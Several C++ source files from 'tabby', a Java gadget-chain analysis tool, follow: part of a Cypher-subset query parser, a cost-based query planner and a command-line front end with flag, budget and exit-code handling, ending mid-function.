      condition.op = CmpKind::Ge;
    } else if (match_sym("<")) {
      condition.op = CmpKind::Lt;
    } else if (match_sym(">")) {
      condition.op = CmpKind::Gt;
    } else if (match_keyword("CONTAINS")) {
      condition.op = CmpKind::Contains;
    } else if (match_keyword("STARTS")) {
      if (!match_keyword("WITH")) return err("expected WITH after STARTS");
      condition.op = CmpKind::StartsWith;
    } else if (match_keyword("ENDS")) {
      if (!match_keyword("WITH")) return err("expected WITH after ENDS");
      condition.op = CmpKind::EndsWith;
    } else {
      return err("expected comparison operator");
    }
    auto literal = parse_literal();
    if (!literal.ok()) return literal.error();
    condition.literal = std::move(literal.value());
    return condition;
  }

  Result<ReturnItem> parse_return_item() {
    ReturnItem item;
    if (peek().kind != TokKind::Word) return err("expected RETURN item");
    item.var = advance().text;
    if (match_sym(".")) {
      if (peek().kind != TokKind::Word) return err("expected property key");
      item.key = advance().text;
    }
    return item;
  }

  std::vector<Token> tokens_;
  std::size_t pos_ = 0;
};

}  // namespace

util::Result<Query> parse_query(std::string_view text) {
  auto tokens = Lexer(text).lex();
  if (!tokens.ok()) return tokens.error();
  return Parser(std::move(tokens.value())).parse();
}

}  // namespace tabby::cypher
