#include "cypher/planner.hpp"

#include <algorithm>

namespace tabby::cypher {

namespace {

/// A condition may be checked early at pattern-node position `j` only when
/// its variable unambiguously binds to that position's node in every emitted
/// row:
///   - the variable names exactly one pattern node (repeated variables are
///     not join constraints in this subset; the last occurrence wins at
///     emission, so pushing to an earlier one would over-prune);
///   - it is not shadowed by the path variable (the path binding overwrites
///     node bindings of the same name at emission);
///   - bindings_from_path resolves interior positions positionally, which
///     only matches the acceptance frontier when the pattern has at most one
///     variable-length segment — except the first and last nodes, which
///     always anchor the path ends.
bool pushable_at(const Query& query, const Condition& cond, std::size_t j) {
  const auto& nodes = query.pattern.nodes;
  if (nodes[j].var.empty() || nodes[j].var != cond.var) return false;
  if (cond.var == query.pattern.path_var) return false;
  std::size_t occurrences = 0;
  for (const NodePattern& n : nodes) {
    if (n.var == cond.var) ++occurrences;
  }
  if (occurrences != 1) return false;
  if (j == 0 || j + 1 == nodes.size()) return true;
  std::size_t var_segments = 0;
  for (const RelPattern& rel : query.pattern.rels) {
    if (rel.min_len != rel.max_len) ++var_segments;
  }
  return var_segments <= 1;
}

std::uint64_t shrink(std::uint64_t est, std::uint64_t divisor) {
  if (est == 0) return 0;
  return std::max<std::uint64_t>(est / divisor, 1);
}

}  // namespace

Plan plan_query(const Query& query, const StatsView& stats) {
  Plan plan;
  plan.used_stats = stats.exact();
  const auto& nodes = query.pattern.nodes;

  // --- Empty proofs from WHERE shape -----------------------------------
  // A condition whose variable never binds to a node drops every row at
  // emission (the evaluator requires a Node binding), so the result is the
  // header alone whatever the graph holds.
  for (const Condition& cond : query.where) {
    bool binds_node = false;
    for (const NodePattern& n : nodes) {
      if (!n.var.empty() && n.var == cond.var) binds_node = true;
    }
    if (cond.var == query.pattern.path_var) binds_node = false;
    if (!binds_node) {
      plan.always_empty = true;
      plan.empty_reason =
          "WHERE references '" + cond.var + "' which never binds to a node";
      break;
    }
  }

  // --- Pushdown --------------------------------------------------------
  plan.pushed.assign(nodes.size(), {});
  for (std::size_t c = 0; c < query.where.size(); ++c) {
    for (std::size_t j = 0; j < nodes.size(); ++j) {
      if (pushable_at(query, query.where[c], j)) {
        plan.pushed[j].push_back(c);
        break;  // occurrences == 1: exactly one position qualifies
      }
    }
  }

  // --- Per-position estimates ------------------------------------------
  plan.estimates.reserve(nodes.size());
  for (std::size_t j = 0; j < nodes.size(); ++j) {
    std::uint64_t est =
        nodes[j].label.empty() ? stats.total_nodes : stats.label_count(nodes[j].label);
    if (stats.exact() && !nodes[j].label.empty() && est == 0 && !plan.always_empty) {
      plan.always_empty = true;
      plan.empty_reason = "no node carries label '" + nodes[j].label + "'";
    }
    for (std::size_t p = 0; p < nodes[j].props.size(); ++p) est = shrink(est, 8);
    for (std::size_t c : plan.pushed[j]) {
      est = shrink(est, query.where[c].op == CmpKind::Eq ? 8 : 2);
    }
    plan.estimates.push_back(est);
  }

  // --- Anchor selection / direction reversal ---------------------------
  plan.anchor = 0;
  for (std::size_t j = 1; j < nodes.size(); ++j) {
    if (plan.estimates[j] < plan.estimates[plan.anchor]) plan.anchor = j;
  }
  bool want_reverse =
      plan.anchor != 0 && plan.estimates[plan.anchor] * 2 <= plan.estimates[0];
  if (want_reverse && query.limit <= kPlanLimitSkipThreshold) {
    plan.limit_skip = true;
  } else {
    plan.reverse = want_reverse;
  }

  if (plan.always_empty || plan.reverse || plan.has_pushdown()) {
    plan.mode = Plan::Mode::Planned;
  } else {
    plan.mode = Plan::Mode::Naive;
    if (plan.limit_skip) {
      plan.reason = "LIMIT " + std::to_string(query.limit) +
                    " is small enough that naive early exit beats a backward prepass";
    } else if (nodes.size() == 1) {
      plan.reason = "single-node pattern has nothing to reorder";
    } else if (plan.anchor == 0) {
      plan.reason = "start is already the cheapest position";
    } else {
      plan.reason = "no position is clearly cheaper than the start";
    }
  }
  return plan;
}

std::string Plan::to_string(const Query& query) const {
  const auto& nodes = query.pattern.nodes;
  std::string out = "plan: ";
  out += mode == Mode::Planned ? "planned" : "naive";
  if (estimates.empty()) {
    // Planning never ran (--no-plan, or the cypher.plan failpoint fired):
    // there are no estimates to show, only the reason.
    out += "\n  reason: " + reason + "\n";
    return out;
  }
  out += "\n  stats: ";
  out += used_stats ? "exact" : "fallback";
  out += " (" + std::to_string(estimates.size()) + " pattern node(s))\n";
  out += "  estimates:";
  for (std::size_t j = 0; j < estimates.size() && j < nodes.size(); ++j) {
    out += " n" + std::to_string(j);
    if (!nodes[j].var.empty() || !nodes[j].label.empty()) {
      out += "(" + nodes[j].var;
      if (!nodes[j].label.empty()) out += ":" + nodes[j].label;
      out += ")";
    }
    out += "=" + std::to_string(estimates[j]);
  }
  out += "\n";
  if (always_empty) {
    out += "  empty: " + empty_reason + "\n";
  }
  if (reverse) {
    out += "  anchor: node " + std::to_string(anchor) + " (est " +
           std::to_string(estimates[anchor]) + ") - backward reachability filter across " +
           std::to_string(anchor) + " segment(s)\n";
  }
  if (limit_skip) {
    out += "  limit: " + std::to_string(query.limit) +
           " - skipping backward prepass, naive early exit wins\n";
  }
  for (std::size_t j = 0; j < pushed.size(); ++j) {
    for (std::size_t c : pushed[j]) {
      out += "  pushdown: " + query.where[c].var + "." + query.where[c].key + " -> node " +
             std::to_string(j) + "\n";
    }
  }
  if (mode == Mode::Naive) {
    out += "  reason: " + reason + "\n";
  }
  return out;
}

}  // namespace tabby::cypher
