// Cost-based planner for the Cypher subset. plan_query() inspects a parsed
// Query plus label/edge-type cardinality statistics and produces a Plan of
// order-preserving optimizations: because the contract is byte-identical
// output vs the naive evaluator (row order included), every decision is a
// *pruning* — the enumeration order never changes, subtrees are skipped only
// when they provably contribute zero rows.
//
//   - start estimates: per-pattern-node candidate counts from the stats
//     (exact when a stats section is present, fallback defaults otherwise);
//   - anchor / direction reversal: when a later pattern node is clearly
//     cheaper than the start, execution first computes backward reachability
//     filters from that anchor (exact per-level walk sets over reversed
//     segment edges) and uses them to prune start candidates and expansions;
//   - predicate pushdown: WHERE conditions that bind unambiguously to one
//     pattern node are checked at that node during expansion instead of only
//     at row emission;
//   - LIMIT awareness: a small LIMIT beats the prepass (the naive evaluator
//     already exits early), so the planner skips the backward filters;
//   - empty proofs: conditions that can never hold (variable never binds to
//     a node) or labels the stats show to be absent short-circuit the whole
//     query to its header line.
//
// Execution of a Plan lives in cypher.cpp; `tabby query --explain` prints
// Plan::to_string().
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "cypher/ast.hpp"
#include "graph/graph.hpp"

namespace tabby::cypher {

/// Planner's read-only view of graph statistics. `stats` is null when the
/// carrier (an old frozen frame) predates the stats section — estimates then
/// fall back to deterministic defaults so plans stay reproducible.
struct StatsView {
  std::uint64_t total_nodes = 0;
  std::uint64_t total_edges = 0;
  const graph::CardinalityStats* stats = nullptr;

  bool exact() const { return stats != nullptr; }
  /// Candidate count for a labeled node: exact when stats are present (0 is
  /// a proof of emptiness), total/8+1 otherwise.
  std::uint64_t label_count(std::string_view label) const {
    if (stats != nullptr) return stats->label_count(label);
    return total_nodes / 8 + 1;
  }
  std::uint64_t type_count(std::string_view type) const {
    if (stats != nullptr) return stats->type_count(type);
    return total_edges / 8 + 1;
  }
};

/// When the query's LIMIT is at or under this, the naive evaluator's early
/// exit is assumed to beat a whole-graph backward prepass.
inline constexpr std::size_t kPlanLimitSkipThreshold = 8;

struct Plan {
  enum class Mode { Naive, Planned };

  Mode mode = Mode::Naive;
  std::string reason;  // set when mode == Naive: why planning declined
  bool used_stats = false;

  /// The result is provably empty; execution emits the header only.
  bool always_empty = false;
  std::string empty_reason;

  /// Index of the cheapest pattern node (ties break to the lowest index).
  std::size_t anchor = 0;
  /// Build backward reachability filters from `anchor` before executing.
  bool reverse = false;
  /// A small LIMIT made the planner skip the backward prepass.
  bool limit_skip = false;

  /// Per-pattern-node candidate estimates (parallel to pattern.nodes).
  std::vector<std::uint64_t> estimates;
  /// Per-pattern-node indexes into query.where of safely pushed conditions.
  std::vector<std::vector<std::size_t>> pushed;

  bool has_pushdown() const {
    for (const auto& p : pushed) {
      if (!p.empty()) return true;
    }
    return false;
  }

  /// Deterministic multi-line rendering for `tabby query --explain`.
  std::string to_string(const Query& query) const;
};

Plan plan_query(const Query& query, const StatsView& stats);

}  // namespace tabby::cypher
