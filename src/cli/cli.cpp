#include "cli/cli.hpp"

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <memory>
#include <optional>

#include "cache/cache.hpp"
#include "corpus/components.hpp"
#include "corpus/jdk.hpp"
#include "corpus/scenes.hpp"
#include "corpus/stress.hpp"
#include "cpg/builder.hpp"
#include "cypher/cypher.hpp"
#include "finder/finder.hpp"
#include "finder/payload.hpp"
#include "graph/serialize.hpp"
#include "jar/archive.hpp"
#include "obs/obs.hpp"
#include "pipeline/pipeline.hpp"
#include "util/deadline.hpp"
#include "util/memory_budget.hpp"
#include "util/strings.hpp"
#include "util/thread_pool.hpp"

namespace tabby::cli {

namespace {

namespace fs = std::filesystem;

/// Wall-clock budgets, parsed but not yet anchored: Deadlines are created at
/// the point the budgeted work starts, so a slow flag-parse never eats into
/// the budget.
struct BudgetSpec {
  std::optional<std::chrono::milliseconds> run;     // --deadline
  std::optional<std::chrono::milliseconds> load;    // --phase-budget load=
  std::optional<std::chrono::milliseconds> finder;  // --phase-budget finder=
  std::optional<std::uint64_t> mem;                 // --mem-budget (bytes)
  std::optional<std::uint64_t> finder_mem;          // --phase-budget finder-mem=
};

struct Args {
  std::vector<std::string> positional;
  std::string store;
  std::string out_dir;
  std::string cache_dir;
  std::string trace_file;
  std::string deadline;                     // --deadline DUR (raw text)
  std::string mem_budget;                   // --mem-budget SIZE (raw text)
  std::vector<std::string> phase_budgets;   // --phase-budget PHASE=DUR, repeatable
  int depth = 12;
  int jobs = 0;  // 0 = hardware default; 1 = serial (historical pipeline)
  bool verify = false;
  bool frozen = true;  // find/query: use the frozen CSR snapshot (docs/GRAPH.md)
  bool with_jdk = true;
  bool metrics = false;
  bool strict = false;  // promote degradation to failure (FailurePolicy::kStrict)
  bool prune = false;   // `cache` subcommand: remove what the audit flags
  bool explain = false;  // `query`: print the compiled plan before the rows
  bool plan = true;      // `query`: --no-plan forces the naive evaluator
  BudgetSpec budgets;   // validated form of deadline/phase_budgets
  std::string error;
};

// --- Declarative flag table -----------------------------------------------
//
// One table shared by every subcommand. Each row binds a flag name to an
// Args member; parse_args is a single loop over it, so adding a flag is one
// line here plus a usage() row — no if/else ladder to extend.

struct FlagSpec {
  enum class Kind {
    Text,    // --flag VALUE, stored verbatim
    Multi,   // --flag VALUE, repeatable, appended verbatim
    Count,   // --flag N, checked base-10 parse, must be >= min
    Switch,  // --flag, stores `switch_value`
  };
  const char* name;
  Kind kind;
  std::string Args::* text = nullptr;
  int Args::* count = nullptr;
  int min = 1;
  bool Args::* toggle = nullptr;
  bool switch_value = true;
  std::vector<std::string> Args::* multi = nullptr;
};

constexpr FlagSpec kFlags[] = {
    {.name = "--store", .kind = FlagSpec::Kind::Text, .text = &Args::store},
    {.name = "--out", .kind = FlagSpec::Kind::Text, .text = &Args::out_dir},
    {.name = "--cache", .kind = FlagSpec::Kind::Text, .text = &Args::cache_dir},
    {.name = "--trace", .kind = FlagSpec::Kind::Text, .text = &Args::trace_file},
    {.name = "--depth", .kind = FlagSpec::Kind::Count, .count = &Args::depth, .min = 1},
    {.name = "--jobs", .kind = FlagSpec::Kind::Count, .count = &Args::jobs, .min = 1},
    {.name = "--verify", .kind = FlagSpec::Kind::Switch, .toggle = &Args::verify},
    {.name = "--frozen", .kind = FlagSpec::Kind::Switch, .toggle = &Args::frozen},
    {.name = "--no-frozen",
     .kind = FlagSpec::Kind::Switch,
     .toggle = &Args::frozen,
     .switch_value = false},
    {.name = "--no-jdk",
     .kind = FlagSpec::Kind::Switch,
     .toggle = &Args::with_jdk,
     .switch_value = false},
    {.name = "--metrics", .kind = FlagSpec::Kind::Switch, .toggle = &Args::metrics},
    {.name = "--deadline", .kind = FlagSpec::Kind::Text, .text = &Args::deadline},
    {.name = "--mem-budget", .kind = FlagSpec::Kind::Text, .text = &Args::mem_budget},
    {.name = "--phase-budget", .kind = FlagSpec::Kind::Multi, .multi = &Args::phase_budgets},
    {.name = "--strict", .kind = FlagSpec::Kind::Switch, .toggle = &Args::strict},
    {.name = "--prune", .kind = FlagSpec::Kind::Switch, .toggle = &Args::prune},
    {.name = "--explain", .kind = FlagSpec::Kind::Switch, .toggle = &Args::explain},
    {.name = "--no-plan",
     .kind = FlagSpec::Kind::Switch,
     .toggle = &Args::plan,
     .switch_value = false},
};

/// Validates --deadline / --phase-budget text into a BudgetSpec. Returns a
/// usage-class error message on malformed input, empty string on success.
std::string parse_budgets(Args& args) {
  if (!args.deadline.empty()) {
    auto ms = util::parse_duration_ms(args.deadline);
    if (!ms.ok()) return "bad --deadline value: " + args.deadline + " (" + ms.error().message + ")";
    args.budgets.run = std::chrono::milliseconds{ms.value()};
  }
  if (!args.mem_budget.empty()) {
    auto bytes = util::parse_size_bytes(args.mem_budget);
    if (!bytes.ok()) {
      return "bad --mem-budget value: " + args.mem_budget + " (" + bytes.error().message + ")";
    }
    if (bytes.value() == 0) return "bad --mem-budget value: 0 (budget must be positive)";
    args.budgets.mem = bytes.value();
  }
  for (const std::string& budget : args.phase_budgets) {
    std::size_t eq = budget.find('=');
    if (eq == std::string::npos || eq == 0) {
      return "bad --phase-budget value: " + budget + " (expected PHASE=VALUE)";
    }
    std::string phase = budget.substr(0, eq);
    std::string value = budget.substr(eq + 1);
    // finder-mem is a byte size, every other phase is a wall-clock duration.
    if (phase == "finder-mem") {
      auto bytes = util::parse_size_bytes(value);
      if (!bytes.ok()) return "bad --phase-budget value: " + budget + " (" + bytes.error().message + ")";
      if (bytes.value() == 0) return "bad --phase-budget value: " + budget + " (budget must be positive)";
      args.budgets.finder_mem = bytes.value();
      continue;
    }
    auto ms = util::parse_duration_ms(value);
    if (!ms.ok()) return "bad --phase-budget value: " + budget + " (" + ms.error().message + ")";
    if (phase == "load") {
      args.budgets.load = std::chrono::milliseconds{ms.value()};
    } else if (phase == "finder") {
      args.budgets.finder = std::chrono::milliseconds{ms.value()};
    } else {
      return "unknown --phase-budget phase: " + phase + " (known phases: load, finder, finder-mem)";
    }
  }
  return "";
}

/// Anchors an optional budget as a Deadline starting now.
util::Deadline maybe_after(const std::optional<std::chrono::milliseconds>& budget) {
  return budget.has_value() ? util::Deadline::after(*budget) : util::Deadline{};
}

/// Process-wide memory ledger for one command, or nullptr when --mem-budget
/// is unset (the governed paths take their zero-cost branch).
std::unique_ptr<util::MemoryBudget> make_budget(const Args& args) {
  if (!args.budgets.mem.has_value()) return nullptr;
  return std::make_unique<util::MemoryBudget>(static_cast<std::size_t>(*args.budgets.mem));
}

Args parse_args(const std::vector<std::string>& raw) {
  Args args;
  for (std::size_t i = 0; i < raw.size(); ++i) {
    const std::string& a = raw[i];
    if (!util::starts_with(a, "--")) {
      args.positional.push_back(a);
      continue;
    }
    const FlagSpec* spec = nullptr;
    for (const FlagSpec& candidate : kFlags) {
      if (a == candidate.name) {
        spec = &candidate;
        break;
      }
    }
    if (spec == nullptr) {
      args.error = "unknown flag: " + a;
      return args;
    }
    if (spec->kind == FlagSpec::Kind::Switch) {
      args.*(spec->toggle) = spec->switch_value;
      continue;
    }
    if (i + 1 >= raw.size()) {
      args.error = "missing value for " + a;
      return args;
    }
    const std::string& value = raw[++i];
    if (spec->kind == FlagSpec::Kind::Text) {
      args.*(spec->text) = value;
      continue;
    }
    if (spec->kind == FlagSpec::Kind::Multi) {
      (args.*(spec->multi)).push_back(value);
      continue;
    }
    util::Result<int> parsed = util::parse_int(value);
    if (!parsed.ok() || parsed.value() < spec->min) {
      args.error = "bad " + a + " value: " + value;
      return args;
    }
    args.*(spec->count) = parsed.value();
  }
  args.error = parse_budgets(args);
  return args;
}

int usage(std::ostream& err) {
  err << "usage:\n"
         "  tabby list\n"
         "  tabby gen <component-or-scene> --out DIR\n"
         "  tabby analyze JAR... [--store FILE] [--cache DIR] [--no-jdk] [--jobs N]\n"
         "  tabby find JAR... [--depth N] [--verify] [--cache DIR] [--no-frozen] [--jobs N]\n"
         "  tabby query JAR... \"MATCH ... RETURN ...\" [--cache DIR] [--no-jdk] [--jobs N]\n"
         "  tabby query --store FILE \"MATCH ... RETURN ...\" [--explain] [--no-plan]\n"
         "  tabby cache DIR [--prune]\n"
         "\n"
         "  --jobs N      worker threads for the parallel stages (default: all\n"
         "                hardware threads; 1 = serial). Output is identical at\n"
         "                any job count.\n"
         "  --cache DIR   incremental analysis cache: per-archive fragments plus\n"
         "                whole-classpath CPG snapshots, keyed by content digests.\n"
         "                A warm run on an unchanged classpath skips recomputation\n"
         "                and produces identical output.\n"
         "  --frozen / --no-frozen\n"
         "                find/query: run the search over the frozen CSR graph\n"
         "                snapshot (default on; see docs/GRAPH.md). With --cache\n"
         "                the frame is persisted next to the snapshot and warm\n"
         "                runs mmap it zero-copy, skipping the graph decode.\n"
         "                Output is byte-identical either way; --verify and a\n"
         "                corrupt cached frame fall back to the graph store.\n"
         "  --trace FILE  write a Chrome trace-event JSON of the run (open in\n"
         "                chrome://tracing or https://ui.perfetto.dev; one track\n"
         "                per worker thread). Does not change any output.\n"
         "  --metrics     print per-phase span timings and the counter catalog\n"
         "                on stderr after the command.\n"
         "  --deadline D  whole-run wall-clock budget (e.g. 500ms, 30s, 5m).\n"
         "                Cooperative: stages stop at the next unit boundary and\n"
         "                the run reports what it skipped.\n"
         "  --mem-budget SIZE\n"
         "                byte budget for the run (e.g. 64m, 2g). The finder\n"
         "                prunes its lowest-priority frontier branches instead of\n"
         "                growing past the budget; affected sinks are reported\n"
         "                partial (exit 3), chains found so far are kept.\n"
         "  --phase-budget PHASE=V\n"
         "                per-phase budget on top of --deadline/--mem-budget;\n"
         "                phases: load (archive decode, duration), finder\n"
         "                (per-sink search, duration), finder-mem (frontier byte\n"
         "                pool, size). Repeatable.\n"
         "  --explain     `tabby query` only: print the compiled query plan\n"
         "                (start selection, estimates, pushdowns) before the\n"
         "                rows. Purely additive — rows are unchanged.\n"
         "  --no-plan     `tabby query` only: skip the cost-based planner and\n"
         "                run the naive evaluator. Escape hatch; output is\n"
         "                byte-identical either way, only speed differs.\n"
         "  --strict      fail on the first malformed input or exceeded budget\n"
         "                instead of quarantining it (exit 1 instead of 3).\n"
         "  --prune       `tabby cache` only: delete the corrupt and orphaned\n"
         "                entries the audit finds (they rebuild on the next run).\n"
         "\n"
         "exit codes:\n"
         "  0  clean run\n"
         "  1  fatal error (nothing usable produced)\n"
         "  2  usage error\n"
         "  3  completed with degradation: quarantined inputs, an expired\n"
         "     deadline, memory-pressure pruning, or partial sink searches\n"
         "     (details on stderr)\n";
  return 2;
}

bool write_bytes(const std::vector<std::byte>& bytes, const fs::path& path, std::ostream& err) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  out.write(reinterpret_cast<const char*>(bytes.data()),
            static_cast<std::streamsize>(bytes.size()));
  if (!out) {
    err << "error: cannot write " << path.string() << "\n";
    return false;
  }
  return true;
}

/// pipeline::Options for one analyze/find/query invocation. The CLI defaults
/// to quarantine (a partial answer with a degradation report and exit 3
/// beats no answer on a big real-world classpath); --strict restores the
/// library default of failing on the first malformed unit. Deadlines are
/// anchored here, i.e. when the budgeted work is about to start.
pipeline::Options pipeline_options(const Args& args, util::Executor* executor, bool need_program,
                                   bool need_graph_bytes,
                                   util::MemoryBudget* memory = nullptr) {
  pipeline::Options options;
  options.with_jdk = args.with_jdk;
  options.cache_dir = args.cache_dir;
  options.need_program = need_program;
  options.need_graph_bytes = need_graph_bytes;
  options.executor = executor;
  options.policy =
      args.strict ? pipeline::FailurePolicy::kStrict : pipeline::FailurePolicy::kQuarantine;
  options.deadline = maybe_after(args.budgets.run);
  options.load_deadline = maybe_after(args.budgets.load);
  options.memory = memory;
  return options;
}

/// Renders a pipeline outcome's preamble (warnings and degradation lines to
/// err, cache line to out).
void report_outcome(const pipeline::Outcome& outcome, std::ostream& out, std::ostream& err) {
  for (const std::string& warning : outcome.warnings) err << "warning: " << warning << "\n";
  err << outcome.degradation.to_string();
  if (!outcome.cache_line.empty()) out << outcome.cache_line << "\n";
}

/// Exit code for a command whose pipeline half succeeded: 3 when anything
/// was degraded, else 0.
int degradation_exit(const pipeline::Outcome& outcome) {
  return outcome.degradation.degraded() ? 3 : 0;
}

int cmd_list(std::ostream& out) {
  out << "components (Table IX):\n";
  for (const std::string& name : corpus::component_names()) out << "  " << name << "\n";
  out << "scenes (Table X):\n";
  for (const std::string& name : corpus::scene_names()) out << "  " << name << "\n";
  out << "stress fixtures:\n"
         "  fanout-stress\n";
  return 0;
}

int cmd_gen(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() != 2 || args.out_dir.empty()) {
    err << "usage: tabby gen <component-or-scene> --out DIR\n";
    return 2;
  }
  const std::string& name = args.positional[1];
  std::error_code ec;
  fs::create_directories(args.out_dir, ec);

  std::vector<jar::Archive> archives;
  const auto& components = corpus::component_names();
  const auto& scenes = corpus::scene_names();
  if (std::find(components.begin(), components.end(), name) != components.end()) {
    corpus::Component component = corpus::build_component(name);
    archives.push_back(corpus::jdk_base_archive());
    archives.push_back(std::move(component.jar));
  } else if (std::find(scenes.begin(), scenes.end(), name) != scenes.end()) {
    archives = corpus::build_scene(name).jars;
  } else if (name == "fanout-stress") {
    archives.push_back(corpus::jdk_base_archive());
    archives.push_back(corpus::fanout_stress_archive());
  } else {
    err << "error: unknown component or scene: " << name << "\n";
    return 1;
  }

  for (const jar::Archive& archive : archives) {
    std::string file = archive.meta.name;
    for (char& c : file) {
      if (c == '/' || c == ' ' || c == '(' || c == ')') c = '_';
    }
    if (!util::ends_with(file, ".tjar")) file += ".tjar";
    fs::path path = fs::path(args.out_dir) / file;
    auto status = jar::write_archive_file(archive, path);
    if (!status.ok()) {
      err << "error: " << status.error().to_string() << "\n";
      return 1;
    }
    out << "wrote " << path.string() << " (" << archive.classes.size() << " classes)\n";
  }
  return 0;
}

int cmd_analyze(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() < 2) {
    err << "usage: tabby analyze JAR... [--store FILE]\n";
    return 2;
  }
  std::unique_ptr<util::ThreadPool> pool = pipeline::make_pool(args.jobs);
  std::unique_ptr<util::MemoryBudget> budget = make_budget(args);
  auto result = pipeline::run({args.positional.begin() + 1, args.positional.end()},
                              pipeline_options(args, pool.get(), /*need_program=*/false,
                                               /*need_graph_bytes=*/!args.store.empty(),
                                               budget.get()));
  if (!result.ok()) {
    err << "error: " << result.error().to_string() << "\n";
    return 1;
  }
  pipeline::Outcome& outcome = result.value();
  report_outcome(outcome, out, err);
  out << "classes:  " << outcome.stats.class_nodes << "\n"
      << "methods:  " << outcome.stats.method_nodes << "\n"
      << "edges:    " << outcome.stats.relationship_edges << " (" << outcome.stats.call_edges
      << " CALL, " << outcome.stats.alias_edges << " ALIAS)\n"
      << "sources:  " << outcome.stats.source_methods << "\n"
      << "sinks:    " << outcome.stats.sink_methods << "\n"
      << "pruned:   " << outcome.stats.pruned_call_sites << " uncontrollable call sites\n"
      << "build:    " << util::format_double(outcome.stats.build_seconds, 3) << " s\n";
  if (!args.store.empty()) {
    // Write the serialized bytes directly: on a warm run these are the
    // snapshot's embedded store, byte-identical to the cold run's output.
    if (!write_bytes(outcome.graph_bytes, args.store, err)) return 1;
    out << "graph store written to " << args.store << "\n";
  }
  return degradation_exit(outcome);
}

int cmd_find(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() < 2) {
    err << "usage: tabby find JAR... [--depth N] [--verify]\n";
    return 2;
  }
  std::unique_ptr<util::ThreadPool> pool = pipeline::make_pool(args.jobs);
  std::unique_ptr<util::MemoryBudget> budget = make_budget(args);
  pipeline::Options popts = pipeline_options(args, pool.get(), /*need_program=*/args.verify,
                                             /*need_graph_bytes=*/false, budget.get());
  // auto-verify replays chains against the mutable store's node ids, so
  // --verify pins the run to the store-backed representation.
  popts.use_frozen = args.frozen && !args.verify;
  auto result = pipeline::run({args.positional.begin() + 1, args.positional.end()}, popts);
  if (!result.ok()) {
    err << "error: " << result.error().to_string() << "\n";
    return 1;
  }
  pipeline::Outcome& outcome = result.value();
  report_outcome(outcome, out, err);

  finder::FinderOptions options;
  options.max_depth = args.depth;
  options.executor = pool.get();
  // The finder races whatever is left of the whole-run budget (the very
  // Deadline the pipeline ran under), tightened with its own phase budget
  // anchored now, at finder start.
  options.deadline = popts.deadline.tightened(maybe_after(args.budgets.finder));
  // finder-mem= carves a dedicated frontier pool; otherwise the whole
  // --mem-budget doubles as the pool. Shard caps come from the pool size
  // alone, so the chain set is identical at any --jobs count.
  options.frontier_byte_pool = static_cast<std::size_t>(
      args.budgets.finder_mem.value_or(args.budgets.mem.value_or(0)));
  options.memory = budget.get();
  // Same search, same report bytes — the frozen finder only changes how the
  // adjacency and properties are read.
  finder::GadgetChainFinder finder = outcome.frozen.has_value()
                                         ? finder::GadgetChainFinder(*outcome.frozen, options)
                                         : finder::GadgetChainFinder(outcome.db, options);
  finder::FinderReport report = finder.find_all();

  out << report.chains.size() << " gadget chain(s), "
      << util::format_double(report.search_seconds, 3) << " s search\n\n";
  std::size_t confirmed = 0;
  for (const finder::GadgetChain& chain : report.chains) {
    out << chain.to_string();
    if (args.verify) {
      finder::AutoVerifyResult verdict = finder::auto_verify(*outcome.program, outcome.db, chain);
      out << "  auto-verify: " << (verdict.effective ? "EFFECTIVE" : "refuted") << "\n";
      confirmed += verdict.effective ? 1 : 0;
    }
    out << "\n";
  }
  if (args.verify) {
    out << confirmed << "/" << report.chains.size() << " chains confirmed effective\n";
  }
  if (report.partial()) {
    if (args.strict) {
      err << "error: finder budget exceeded (" << report.partial_sinks.size()
          << " sink search(es) incomplete)\n";
      return 1;
    }
    for (const finder::PartialSink& sink : report.partial_sinks) {
      if (sink.reason == finder::PartialReason::MemoryPressure) {
        err << "degraded: [finder-memory] " << sink.signature
            << ": frontier pruned under memory pressure after " << sink.expansions
            << " expansion(s); chains found so far are kept\n";
      } else {
        err << "degraded: [finder-deadline] " << sink.signature << ": search cut short after "
            << sink.expansions << " expansion(s)\n";
      }
    }
    outcome.degradation.partial_sinks = report.partial_sinks.size();
    outcome.degradation.frontier_pruned = report.frontier_pruned;
    return 3;
  }
  return degradation_exit(outcome);
}

int cmd_cache(const Args& args, std::ostream& out, std::ostream& err) {
  std::string dir = args.cache_dir;
  if (dir.empty() && args.positional.size() == 2) dir = args.positional[1];
  if (dir.empty() || args.positional.size() > 2) {
    err << "usage: tabby cache DIR [--prune]   (or: tabby cache --cache DIR [--prune])\n";
    return 2;
  }
  auto report = cache::audit_cache(dir, args.prune);
  if (!report.ok()) {
    err << "error: " << report.error().to_string() << "\n";
    return 1;
  }
  out << report.value().to_string();
  // Clean store, or a dirty one that --prune just healed: exit 0. Findings
  // left on disk: exit 3, the same "usable but degraded" contract as a run.
  if (report.value().clean()) return 0;
  return args.prune ? 0 : 3;
}

int cmd_query(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() < 2) {
    err << "usage: tabby query (JAR...|--store FILE) \"MATCH ...\"\n";
    return 2;
  }
  std::string query_text = args.positional.back();
  graph::GraphDb db;
  std::optional<graph::FrozenGraph> frozen;
  int degraded = 0;
  // Pool and budget outlive the query: the planner's backward prepass
  // parallelizes over the pool and its filter bitsets are metered.
  std::unique_ptr<util::ThreadPool> pool = pipeline::make_pool(args.jobs);
  std::unique_ptr<util::MemoryBudget> budget = make_budget(args);
  if (!args.store.empty()) {
    auto loaded = graph::load(args.store);
    if (!loaded.ok()) {
      err << "error: " << loaded.error().to_string() << "\n";
      return 1;
    }
    db = std::move(loaded.value());
  } else {
    if (args.positional.size() < 3) {
      err << "usage: tabby query JAR... \"MATCH ...\"\n";
      return 2;
    }
    pipeline::Options popts = pipeline_options(args, pool.get(), /*need_program=*/false,
                                               /*need_graph_bytes=*/false, budget.get());
    popts.use_frozen = args.frozen;
    auto result = pipeline::run({args.positional.begin() + 1, args.positional.end() - 1}, popts);
    if (!result.ok()) {
      err << "error: " << result.error().to_string() << "\n";
      return 1;
    }
    report_outcome(result.value(), out, err);
    degraded = degradation_exit(result.value());
    frozen = std::move(result.value().frozen);
    db = std::move(result.value().db);
  }
  cypher::QueryOptions qopts;
  qopts.use_planner = args.plan;
  qopts.executor = pool.get();
  qopts.memory = budget.get();
  // Queries print byte-identically over either representation (and with or
  // without the planner); the frozen path just reads sorted CSR segments
